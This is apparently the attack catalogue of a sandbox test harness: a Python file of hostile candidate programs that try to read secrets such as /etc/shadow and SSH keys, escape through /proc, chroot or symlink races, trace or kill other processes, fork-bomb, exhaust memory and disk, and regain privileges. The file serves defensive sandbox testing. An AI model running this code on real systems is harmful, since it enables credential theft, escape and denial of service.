"""The attacks, as candidates: each is a wrong program that tries to break one promise.

`PRELUDE` stands before each. An attack defines `attack()`, whose result its `answer(n)` returns; or
it defines `answer` itself; or it does its worst while it is loaded. It says `GOT` when it got
through in a way that leaves no trace outside, and returns what it could read. What it writes,
sends and starts bears its `NAME`, so that the arena can tell whose it was.

Nobody should run these by hand: `arena.py` does, in namespaces of its own.
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """
import ctypes, json, os, re, signal, socket, struct, sys, threading, time
NAME, P = {name!r}, {places!r}
GOT, CALLS = P["mark"], P["calls"]
libc = ctypes.CDLL(None, use_errno=True)

def call(name, *values):
    wide = [ctypes.c_long(v) if isinstance(v, int) else v for v in values]
    return libc.syscall(ctypes.c_long(CALLS[name]), *wide)

def got(result):
    return GOT if result else "held"

def secrets(text):
    # All secrets look so. Evidence is cut short, and must not be cut before them.
    return " ".join(sorted(set(re.findall("(?<![0-9a-f])[0-9a-f]{{24}}(?![0-9a-f])", text))))[:150]

def text_of(*paths):
    found = []
    for path in paths:
        try:
            with open(path, "rb") as file:
                found.append(file.read(4000).decode("latin-1"))
        except OSError as error:
            found.append(error.strerror)
    return " ".join(found)

def read(*paths):
    return secrets(text_of(*paths))

def write(directory, name=None):
    path = os.path.join(directory, name or NAME)
    try:
        with open(path, "w") as file:
            file.write(NAME)
    except OSError as error:
        return error.strerror
    return "wrote " + path

def each(*deeds):
    results = []
    for deed in deeds:
        try:
            results.append(str(deed()))
        except BaseException as error:
            results.append(type(error).__name__)
    return " ".join(results)

def frame(head, payload=None):
    body = head if isinstance(head, bytes) else json.dumps(head).encode()
    if payload is not None:
        body += b"\\n" + payload
    return struct.pack("<I", len(body)) + body

def send(data, descriptor=3):
    data = memoryview(data)
    while data:
        data = data[os.write(descriptor, data):]

LOADED = frame(["loaded", 0.0, "", True])
"""
EPILOGUE = """
if "answer" not in globals():
    def answer(n):
        return attack() if "attack" in globals() else 0
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile program: `promise` is what it tries to break, `task` whose checks it meets."""

    name: str
    promise: str
    code: str
    task: str = "square"


def program(attack: Attack, places: dict[str, object]) -> str:
    """The attack as a candidate's whole text."""
    return PRELUDE.format(name=attack.name, places=places) + attack.code + EPILOGUE


def _table(promise: str, task: str = "square", **codes: str) -> tuple[Attack, ...]:
    return tuple(Attack(name, promise, code, task) for name, code in codes.items())


FILES = _table(
    "files",
    read_secret='attack = lambda: read(P["secret"])',
    read_keys='attack = lambda: read(P["home"] + "/.ssh/id_ed25519", P["home"] + "/.netrc")',
    read_repository='attack = lambda: read(P["repository"] + "/config")',
    read_shadow='attack = lambda: got("root:" in text_of("/etc/shadow"))',
    read_through_proc_root="""
def attack():
    roots = ["/proc/%d/root" % pid for pid in (1, P["controller"], P["victim"], os.getppid())]
    return read(*[root + P["secret"] for root in roots])
""",
    read_through_descriptors="""
def attack():
    found = []
    for number in range(256):
        for up in ("..", "../..", "../../..", "../../../..", "../../../../.."):
            found.append(read("/proc/self/fd/%d/%s/%s" % (number, up, P["secret"])))
            try:
                base = os.open(up + P["secret"], os.O_RDONLY, dir_fd=number)
                found.append(os.read(base, 100).decode())
            except OSError:
                pass
    return secrets(" ".join(found))
""",
    read_by_handle="""
def attack():
    handle = (ctypes.c_char * 256)()
    struct.pack_into("<I", handle, 0, 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, b"/", ctypes.byref(handle), ctypes.byref(mount), 0)
    ends = [call("open_by_handle_at", fd, ctypes.byref(handle), 0) for fd in range(8)]
    return got(max(ends) >= 0)
""",
    write_open_directory='attack = lambda: write(P["open"])',
    write_home='attack = lambda: write(P["home"]) + write(P["home"] + "/.ssh", "authorized_keys")',
    write_repository='attack = lambda: write(P["repository"]) + write(P["repository"], "config")',
    write_temporary="""
attack = lambda: write(P["temporary"]) + write("/var/tmp") + write("/dev/shm") + write("/run")
""",
    overwrite_open_file="""
def attack():
    def through(flags):
        descriptor = os.open(P["open_file"], flags)
        return os.write(descriptor, NAME.encode())
    return each(
        lambda: os.truncate(P["open_file"], 0), lambda: os.open(P["open_file"], os.O_TRUNC),
        lambda: through(os.O_WRONLY), lambda: through(os.O_RDWR | os.O_APPEND),
    )
""",
    change_modes="""
def attack():
    return each(
        lambda: os.chmod(P["open_file"], 0), lambda: os.chmod(P["home"], 0o777),
        lambda: os.utime(P["open_file"], (1, 1)), lambda: os.chown(P["open_file"], 1, 1),
        lambda: os.setxattr(P["open_file"], "user.x", b"x"),
        lambda: os.fchmod(os.open(P["secret"], os.O_RDONLY), 0),
    )
""",
    links="""
def attack():
    here = os.getcwd()
    deeds = []
    for make in (os.symlink, os.link):
        for goal in (P["secret"], P["open_file"]):
            deeds.append(lambda m=make, g=goal: m(g, "%s/%s-%d" % (here, m.__name__, len(g))))
    told = each(*deeds)
    for name in os.listdir(here):
        told += read(os.path.join(here, name))
        try:
            with open(os.path.join(here, name), "a") as file:
                file.write(NAME)
        except OSError:
            pass
    return told
""",
    symlink_race="""
def attack():
    # Whoever cleans the scratch may follow a link, or a directory that becomes one.
    os.makedirs("a/b/c", exist_ok=True)
    for name, goal in (("home", P["home"]), ("open", P["open"]), ("a/b/up", P["repository"])):
        if not os.path.islink(name):
            os.symlink(goal, name)
    def swap():
        while True:
            try:
                os.rename("a/b", "kept")
                os.symlink(P["open"], "a/b")
                os.unlink("a/b")
                os.rename("kept", "a/b")
            except OSError:
                pass
    threading.Thread(target=swap, daemon=True).start()
    time.sleep(0.2)
    return 0
""",
    rename_away='attack = lambda: each(lambda: os.rename(P["open_file"], P["open_file"] + NAME), '
    'lambda: os.unlink(P["open_file"]), lambda: os.rmdir(P["open"]))',
    mounts="""
def attack():
    bind, remount, detach = 4096, 32, 2
    ends = [
        libc.mount(b"/", b"/tmp", None, bind, None), libc.mount(b"x", b"/tmp", b"tmpfs", 0, None),
        libc.mount(None, b"/", None, remount, None), libc.umount2(b"/tmp", detach),
        libc.umount2(b"/proc", detach), call("pivot_root", b"/tmp", b"/tmp"),
        call("fsopen", b"tmpfs", 0), call("open_tree", -100, b"/", 1),
        call("mount_setattr", -100, b"/", 0, b"\\0" * 32, 32),
    ]
    return got(max(ends) >= 0)
""",
    chroot="""
def attack():
    os.makedirs("jail", exist_ok=True)
    try:
        os.chroot("jail")
    except OSError:
        return "held"
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    return read(P["secret"]) + GOT
""",
    system_settings="""
def attack():
    return each(
        *[lambda p=p: write("/proc/sys", p) for p in (
            "kernel/core_pattern", "kernel/hostname", "vm/overcommit_memory", "kernel/domainname",
            "net/ipv4/ip_forward", "user/max_user_namespaces", "fs/mqueue/queues_max")],
        lambda: write("/proc", "sysrq-trigger"), lambda: write("/proc/self", "oom_score_adj"),
    ).replace("wrote", GOT)
""",
    cgroup_escape="""
def attack():
    told = ""
    for top, _, names in os.walk("/sys/fs/cgroup"):
        for name in ("cgroup.procs", "tasks", "release_agent", "notify_on_release"):
            if name in names:
                told += write(top, name)
    return told.replace("wrote", GOT)
""",
    devices="""
def attack():
    made = []
    for number, name in ((os.makedev(1, 1), "mem"), (os.makedev(254, 0), "disk")):
        try:
            os.mknod(name, 0o600 | 0o060000, number)
            made.append(os.open(name, os.O_RDONLY))
        except OSError:
            pass
    for name in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/sda"):
        try:
            made.append(os.open(name, os.O_RDWR))
        except OSError:
            pass
    return got(made)
""",
)

NETWORK = _table(
    "network",
    tcp="""
def attack():
    with socket.create_connection(("127.0.0.1", P["tcp"]), timeout=1) as link:
        link.sendall(NAME.encode())
""",
    udp="""
def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(NAME.encode(), ("127.0.0.1", P["udp"]))
""",
    abstract_stream="""
def attack():
    with socket.socket(socket.AF_UNIX) as link:
        link.connect("\\0" + P["abstract"])
        link.sendall(NAME.encode())
""",
    datagram_pair="""
def attack():
    # One of a pair of datagram sockets can send anywhere: no socket() needed.
    told = []
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        for goal in ("\\0" + P["abstract_datagram"], P["path_datagram"]):
            told.append(each(lambda k=kind, g=goal: socket.socketpair(socket.AF_UNIX, k)[0].sendto(
                NAME.encode(), g)))
    return " ".join(told)
""",
    reconnect_pair="""
def attack():
    told = []
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
        told.append(each(
            lambda o=one: o.connect("\\0" + P["abstract"]), lambda o=one: o.sendall(NAME.encode()),
            lambda o=one: o.sendto(NAME.encode(), "\\0" + P["abstract_datagram"])))
    return " ".join(told)
""",
    raw_sockets="""
def attack():
    made = []
    for family, kind in ((17, 3), (16, 3), (2, 3), (38, 5), (40, 1), (10, 1), (31, 3)):
        made.append(libc.socket(family, kind, 0))
    return got(max(made) >= 0)
""",
    inherited_sockets="""
def attack():
    # Whatever was left open: nobody but the result socket (3) may be one.
    found = []
    for number in range(4, 1024):
        try:
            os.fstat(number)
            found.append(os.readlink("/proc/self/fd/%d" % number))
        except OSError:
            pass
    return got([name for name in found if "socket" in name or name.startswith("/")])
""",
)

PROCESSES = _table(
    "processes",
    kill_victim="""
def attack():
    return each(*[lambda p=p, s=s: os.kill(p, s) for p in (P["victim"], P["controller"])
                  for s in (0, signal.SIGSTOP, signal.SIGKILL)])
""",
    kill_parent="""
def attack():
    return each(lambda: os.kill(os.getppid() or 1, signal.SIGKILL))
""",
    kill_neighbours="""
def attack():
    # Every number that could be somebody's.
    for pid in range(2, 3000):
        if pid != os.getpid():
            each(lambda p=pid: os.kill(p, signal.SIGKILL))
    return 0
""",
    kill_everything="""
def attack():
    if os.fork() == 0:
        os.kill(-1, signal.SIGKILL)
        os._exit(0)
    time.sleep(0.2)
    return 0
""",
    kill_groups="""
def attack():
    groups = {0, 1, os.getpgid(0), P["controller"], P["victim"], os.getppid()}
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    return each(*[lambda g=g: os.killpg(g, signal.SIGUSR1 if g == os.getpgid(0) else 9)
                  for g in groups if g != 0])
""",
    signal_the_reaper="""
def attack():
    for number in range(1, 65):
        each(lambda n=number: os.kill(1, n))
    nobody = struct.pack("<QQ", 0, 0)
    each(lambda: libc.prlimit(1, 0, nobody, None), lambda: libc.ptrace(16, 1, 0, 0),
         lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.sched_setaffinity(1, {0}))
    time.sleep(0.1)
    return 0
""",
    renice_others="""
def attack():
    least = struct.pack("<i", 0)
    return each(
        *[lambda p=p: os.setpriority(os.PRIO_PROCESS, p, 19) for p in (1, P["victim"])],
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        *[lambda p=p: os.sched_setaffinity(p, {0}) for p in (1, P["victim"])],
        *[lambda p=p: libc.sched_setscheduler(p, 5, least) for p in (1, P["victim"])],
        lambda: libc.prlimit(P["victim"], 7, struct.pack("<QQ", 4, 4), None),
    )
""",
    kill_by_descriptor_owner="""
def attack():
    # A descriptor may be told whom to signal, and with what: no kill() needed.
    import fcntl
    told = []
    for goal in (P["victim"], P["controller"], 1):
        one, other = socket.socketpair()
        told.append(each(
            lambda o=one, g=goal: fcntl.fcntl(o, fcntl.F_SETOWN, g),
            lambda o=one: fcntl.fcntl(o, 10, signal.SIGKILL),
            lambda o=one: fcntl.fcntl(o, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK),
            lambda o=other: o.send(b"x")))
    return " ".join(told)
""",
    trace="""
def attack():
    attach, seize = 16, 0x4206
    ends = [libc.ptrace(how, pid, 0, 0) for how in (attach, seize)
            for pid in (1, P["victim"], P["controller"], os.getppid())]
    child = os.fork()
    if child == 0:
        time.sleep(1)
        os._exit(0)
    ends.append(libc.ptrace(attach, child, 0, 0))
    os.kill(child, 9)
    return got(0 in ends)
""",
    memory_of_others="""
def attack():
    found = []
    for pid in (1, P["victim"], P["controller"], os.getppid()):
        for name in ("mem", "environ", "cmdline", "maps", "fd", "cwd", "status", "syscall"):
            found.append(text_of("/proc/%d/%s" % (pid, name)))
    buffer = ctypes.create_string_buffer(4096)
    local = struct.pack("<QQ", ctypes.addressof(buffer), 4096)
    remote = struct.pack("<QQ", P["victim_address"], 4096)
    for pid in (P["victim"], P["controller"]):
        call("process_vm_readv", pid, local, 1, remote, 1, 0)
        call("process_vm_writev", pid, local, 1, remote, 1, 0)
    return secrets(" ".join(found) + buffer.raw.decode("latin-1"))
""",
    environments_of_others="""
def attack():
    pids = [*range(1, 400), P["victim"], P["controller"]]
    found = [text_of("/proc/%d/environ" % pid) for pid in pids]
    return secrets(str(sorted(os.environ.items())) + " ".join(found))
""",
    steal_descriptors="""
def attack():
    ends = []
    for pid in (1, P["victim"], P["controller"]):
        handle = call("pidfd_open", pid, 0)
        ends += [call("pidfd_getfd", handle, number, 0) for number in range(4)]
        ends.append(call("pidfd_send_signal", handle, 9, None, 0))
    return got(max(ends) >= 0)
""",
    queues_and_segments="""
def attack():
    ends = [libc.shmget(P["segment"], 0, 0), libc.msgget(P["queue"], 0), libc.semget(1, 1, 0o1666),
            libc.shmget(0, 4096, 0o1666), call("mq_open", b"assay", 0o102, 0o666, None)]
    return got(max(ends) >= 0)
""",
)

DAEMONS = _table(
    "daemons",
    "once",
    double_fork="""
def attack():
    if os.fork() == 0:
        each(os.setsid)
        if os.fork() == 0:
            each(os.setsid)
            for number in range(3):
                os.close(number)
            while True:
                time.sleep(0.05)
                write(P["open"])
        os._exit(0)
    os.wait()
    return 0
""",
    daemon_holds_the_sockets="""
def attack():
    if os.fork() == 0:
        each(os.setsid)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        time.sleep(1000)
    return 0
""",
    sibling_of_its_parent="""
# Made a child of the zygote, which does not know of it.
sibling = 0x8000
if libc.syscall(56, sibling | 17, 0, 0, 0, 0) == 0:
    time.sleep(1000)
""",
    lingers_after_the_end="""
answers = b"".join(frame([n, "value", 0.0, ""], b"0") for n in range(P["questions"]))
send(LOADED + answers + frame(["end"]))
time.sleep(1000)
""",
    lingers_after_failing_to_load="""
send(frame(["loaded", 0.0, "", False], b"{}"))
time.sleep(1000)
""",
    closes_everything_and_stays="""
if os.fork():
    os.closerange(0, 256)
    time.sleep(1000)
time.sleep(1000)
""",
    ignores_all_signals="""
def attack():
    for number in range(1, 65):
        each(lambda n=number: signal.signal(n, signal.SIG_IGN))
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    each(lambda: libc.prctl(1, 0, 0, 0, 0), lambda: signal.setitimer(signal.ITIMER_REAL, 0))
    while True:
        try:
            while True:
                time.sleep(0.01)
        except BaseException:
            pass
""",
)

TIME = _table(
    "time",
    "once",
    busy_loop="""
def attack():
    while True:
        pass
""",
    sleeps="attack = lambda: time.sleep(1000)",
    holds_the_interpreter="attack = lambda: 3 ** 10**9",
    catastrophic_pattern="""
def attack():
    import re
    re.match("(a+)+b", "a" * 64)
""",
    swallows_exceptions="""
def attack():
    while True:
        try:
            while True:
                time.sleep(0.001)
        except BaseException:
            continue
""",
    stops_itself="attack = lambda: each(lambda: os.kill(os.getpid(), signal.SIGSTOP))",
    burns_in_orphans="""
def attack():
    while True:
        if os.fork() == 0:
            if os.fork() == 0:
                until = time.monotonic() + 0.05
                while time.monotonic() < until:
                    pass
            os._exit(0)
        os.wait()
        time.sleep(0.02)
""",
    burns_in_threads="""
def attack():
    def burn():
        while True:
            sum(range(1000))
    for _ in range(20):
        threading.Thread(target=burn).start()
    time.sleep(1000)
""",
    claims_no_time="""
def attack():
    time.process_time = lambda: 0.0
    sys.modules["time"].process_time = lambda: 0.0
    while True:
        pass
""",
)

RESOURCES = _table(
    "resources",
    "once",
    fork_bomb="""
def attack():
    until = time.monotonic() + 1
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
        except OSError:
            break
    live = 0
    for name in os.listdir("/proc"):
        live += name.isdigit()
    return got(live > 500)
""",
    thread_bomb="""
def attack():
    started = 0
    try:
        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(1000,)).start()
            started += 1
    except RuntimeError:
        pass
    return got(started > 500)
""",
    private_memory="""
def attack():
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1 << 20)) * 8)
""",
    shared_memory="""
def attack():
    import mmap
    kept = []
    for _ in range(60):
        kept.append(mmap.mmap(-1, 32 << 20))
        for start in range(0, 32 << 20, 4096):
            kept[-1][start] = 1
    time.sleep(0.5)
    return GOT
""",
    growing_stack_memory="""
def attack():
    # Not data, so no rlimit on data sees it.
    import mmap
    grows_down = 0x100
    kept = []
    for _ in range(60):
        kept.append(mmap.mmap(-1, 32 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | grows_down))
        for start in range(0, 32 << 20, 4096):
            kept[-1][start] = 1
    time.sleep(0.5)
    return GOT
""",
    memory_of_many="""
def attack():
    for _ in range(40):
        if os.fork() == 0:
            kept = bytearray(os.urandom(1 << 20)) * 40
            time.sleep(1000)
    time.sleep(1.2)
    return 0
""",
    memory_files="""
attack = lambda: got(libc.memfd_create(b"x", 0) >= 0 or call("memfd_secret", 0) >= 0)
""",
    locked_memory="""
def attack():
    import mmap
    hoard = mmap.mmap(-1, 64 << 20)
    start = ctypes.addressof(ctypes.c_char.from_buffer(hoard))
    return got(libc.mlock(ctypes.c_void_p(start), 64 << 20) == 0 or libc.mlockall(3) == 0)
""",
    fills_scratch="""
def attack():
    total = 0
    for number in range(40):
        with open("fill-%d" % number, "wb", buffering=0) as file:
            for _ in range(15):
                total += file.write(bytes(1 << 20))
    return GOT if total > 200 << 20 else total
""",
    fills_shared_memory="""
def attack():
    total = 0
    for number in range(40):
        with open("/dev/shm/%s-%d" % (NAME, number), "wb", buffering=0) as file:
            for _ in range(15):
                total += file.write(bytes(1 << 20))
    return GOT if total > 200 << 20 else total
""",
    exhausts_inodes="""
def attack():
    for number in range(300_000):
        os.close(os.open("inode-%d" % number, os.O_CREAT | os.O_WRONLY))
    return GOT
""",
    deep_directories="""
def attack():
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
    os.mkdir("unreadable", 0)
    return 0
""",
    huge_file="""
def attack():
    with open("huge", "wb") as file:
        file.truncate(1 << 40)
    return GOT
""",
    floods_print="""
def attack():
    for _ in range(4000):
        print("x" * 1_000_000)
    return 0
""",
    floods_descriptors="""
def attack():
    data = b"x" * (1 << 20)
    while True:
        os.write(1, data)
        os.write(2, data)
""",
    exhausts_descriptors="""
def attack():
    kept = []
    for _ in range(5000):
        kept.append(os.dup(1))
    return GOT
""",
    socket_buffers="""
def attack():
    for _ in range(16):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    pair = socket.socketpair()
                    kept += pair
                    for end in pair:
                        end.setblocking(False)
                        try:
                            while True:
                                end.send(bytes(1 << 16))
                        except BlockingIOError:
                            pass
            except OSError:
                time.sleep(1000)
    time.sleep(1.5)
    return 0
""",
    raises_its_limits="""
def attack():
    import resource
    raised = []
    for name in ("NPROC", "DATA", "FSIZE", "NOFILE", "CORE", "CPU", "MEMLOCK", "MSGQUEUE"):
        what = getattr(resource, "RLIMIT_" + name)
        _, hard = resource.getrlimit(what)
        try:
            resource.setrlimit(what, (hard, hard + 1 if hard >= 0 else hard))
            raised.append(name)
        except (OSError, ValueError):
            raised += [name] if hard == resource.RLIM_INFINITY else []
    return got(raised)
""",
    dumps_core="""
def attack():
    import resource
    libc.prctl(4, 1, 0, 0, 0)
    each(lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)))
    child = os.fork()
    if child == 0:
        os.chdir(os.getcwd())
        os.kill(os.getpid(), signal.SIGSEGV)
        time.sleep(1)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    return got(os.WCOREDUMP(status) or any("core" in name for name in os.listdir(".")))
""",
)

KERNEL = _table(
    "kernel",
    namespaces="""
def attack():
    flags = (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000)
    ends = [libc.unshare(flag) for flag in flags]
    for flag in flags:
        child = libc.syscall(56, flag | 17, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        ends.append(0 if child > 0 else -1)
    arguments = struct.pack("<11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    child = libc.syscall(435, arguments, len(arguments))
    if child == 0:
        os._exit(0)
    ends.append(0 if child > 0 else -1)
    for kind in ("user", "mnt", "pid", "net"):
        try:
            ends.append(libc.setns(os.open("/proc/1/ns/" + kind, os.O_RDONLY), 0))
        except OSError:
            pass
    return got(0 in ends)
""",
    io_uring="attack = lambda: got(call('io_uring_setup', 8, (ctypes.c_char * 120)()) >= 0)",
    keyrings="""
def attack():
    ends = [call("keyctl", 0, -3, 1), call("keyctl", 1, None),
            call("add_key", b"user", b"assay", b"x", 1, -3),
            call("request_key", b"user", b"assay", None, 0)]
    return got(max(ends) >= 0)
""",
    userfaultfd="attack = lambda: got(max(call('userfaultfd', flag) for flag in (0, 1)) >= 0)",
    tracing_and_programs="""
def attack():
    event = (ctypes.c_char * 128)()
    struct.pack_into("<II", event, 0, 1, 128)
    ends = [call("perf_event_open", event, 0, -1, -1, 0), call("bpf", 0, event, 128),
            call("fanotify_init", 0, 0), call("seccomp", 1, 8, struct.pack("<HxxxxxxQ", 0, 0)),
            call("personality", 0x0040000), call("modify_ldt", 0, event, 128) if
            "modify_ldt" in CALLS else -1]
    return got(max(ends) >= 0)
""",
    machine="""
def attack():
    ends = [call("reboot", 0xfee1dead, 672274793, 0, None), call("sethostname", b"x", 1),
            call("settimeofday", b"\\0" * 16, None), call("swapon", b"/tmp/x", 0),
            call("init_module", b"x", 1, b""), call("kexec_load", 0, 0, None, 0),
            call("syslog", 3, ctypes.create_string_buffer(100), 100), call("acct", b"/tmp/x")]
    return got(max(ends) >= 0)
""",
    other_calling_conventions="""
def attack():
    # x32's numbers, and numbers that no kernel had when this was written.
    ends = [libc.syscall(ctypes.c_long(number)) for number in
            (0x40000000 + 101, 0x40000000 + 41, 470, 500, 511, -1)]
    return got(max(ends) >= 0)
""",
    typing_for_the_user="""
def attack():
    import fcntl
    pushes, selects = 0x5412, 0x541C
    told = []
    for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx", "/proc/self/fd/0"):
        for deed in (pushes, selects):
            try:
                descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
                fcntl.ioctl(descriptor, deed, b"x")
                told.append(name)
            except OSError:
                pass
    return got(told)
""",
    privileges="""
def attack():
    told = []
    for deed in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
                 lambda: os.setresuid(0, 0, 0), lambda: os.nice(-5)):
        try:
            deed()
            told.append("regained")
        except OSError:
            pass
    header, everything = struct.pack("<Ii", 0x20080522, 0), struct.pack("<IIIIII", *[2**32 - 1] * 6)
    changing = {"x86_64": 126, "aarch64": 91}[os.uname().machine]
    if libc.syscall(changing, header, everything) == 0:
        told.append("capset")
    if libc.prctl(39, 0, 0, 0, 0) != 1 or libc.prctl(38, 0, 0, 0, 0) == 0:
        told.append("new privileges")
    return got(told)
""",
    set_user_programs="""
def attack():
    import subprocess
    told = ""
    for line in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"],
                 ["unshare", "-r", "id"], ["newgrp"]):
        try:
            told += subprocess.run(line, capture_output=True, text=True, timeout=1).stdout
        except (OSError, subprocess.SubprocessError):
            pass
    return got("uid=0" in told)
""",
)

EXITS = _table(
    "exits",
    leaves_at_load="sys.exit(0)",
    dies_at_load="os._exit(0)",
    leaves_in_the_call="attack = lambda: sys.exit(0)",
    dies_in_the_call="attack = lambda: os._exit(0)",
    aborts="attack = lambda: os.abort()",
    kills_itself="attack = lambda: os.kill(os.getpid(), signal.SIGKILL)",
    leaves_by_a_class_of_its_own="""
class Leave(SystemExit):
    code = 0
    def __str__(self):
        raise KeyboardInterrupt
def attack():
    raise Leave
""",
    interrupts="""
def attack():
    raise KeyboardInterrupt
""",
    becomes_another_program="attack = lambda: os.execv('/bin/true', ['true'])",
    faults="attack = lambda: ctypes.string_at(0)",
    recursion="""
def attack():
    return attack()
""",
    recursion_in_c="""
def attack():
    sys.setrecursionlimit(10**9)
    value = []
    for _ in range(10**6):
        value = [value]
    return repr(value)
""",
    leaves_from_a_thread="""
def attack():
    threading.Thread(target=lambda: os._exit(0)).start()
    time.sleep(1)
""",
)

ALL_BUT_VERDICTS = (
    *FILES, *NETWORK, *PROCESSES, *DAEMONS, *TIME, *RESOURCES, *KERNEL, *EXITS,
)  # fmt: skip
